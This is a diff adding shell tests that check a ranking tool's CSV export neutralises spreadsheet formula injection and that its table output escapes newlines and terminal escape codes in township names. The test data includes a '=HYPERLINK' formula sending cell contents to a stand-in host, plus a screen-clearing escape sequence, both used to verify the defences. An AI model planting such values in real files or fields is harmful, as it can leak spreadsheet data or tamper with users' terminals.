@@ -59,5 +59,23 @@ is $? 64 "a missing period exits 64"
 "$BIZENV" --home "$home" rank 2026-10 --db "host=$T/nowhere dbname=$db" >/dev/null 2>&1
 is $? 69 "an unreachable database exits 69"
 
+# Names a spreadsheet would run as formulas get the export CSV's guard; a
+# name with a newline or an escape stays on its row in the table.
+psql -X -q -v ON_ERROR_STOP=1 -d "$db" >"$T/hostile.log" 2>&1 <<'EOF_SQL'
+SELECT test.town('539901105', '=HYPERLINK("http://x.example/?"&A1,"点击")'),
+       test.town('539901106', '@SUM(1+1)'), test.town('539901107', '+1-1'),
+       test.town('539901108', E'换行\n第二行\u001b[2J');
+EOF_SQL
+ok $? "townships with hostile names added"
+out=$(rank 2026-10 --as-of 2026-11-30 --format csv)
+is "$(printf '%s\n' "$out" | grep ',53990110[5-7],')" \
+',539901105,"'"'"'=HYPERLINK(""http://x.example/?""&A1,""点击"")",,,,,,,,未报送,2026-10
+,539901106,'"'"'@SUM(1+1),,,,,,,,未报送,2026-10
+,539901107,'"'"'+1-1,,,,,,,,未报送,2026-10' \
+    "a name starting with =, @ or + is written with a leading ' (quoted when it holds a comma or quote)"
+out=$(rank 2026-10 --as-of 2026-11-30)
+like "$out" '539901108  换行\\n第二行\\x1b\[2J +- ' "the table shows a newline and an escape in a name escaped"
+unlike "$out" '^第二行' "no row is split"
+
 dropdb "$db" >/dev/null 2>&1
 done_testing
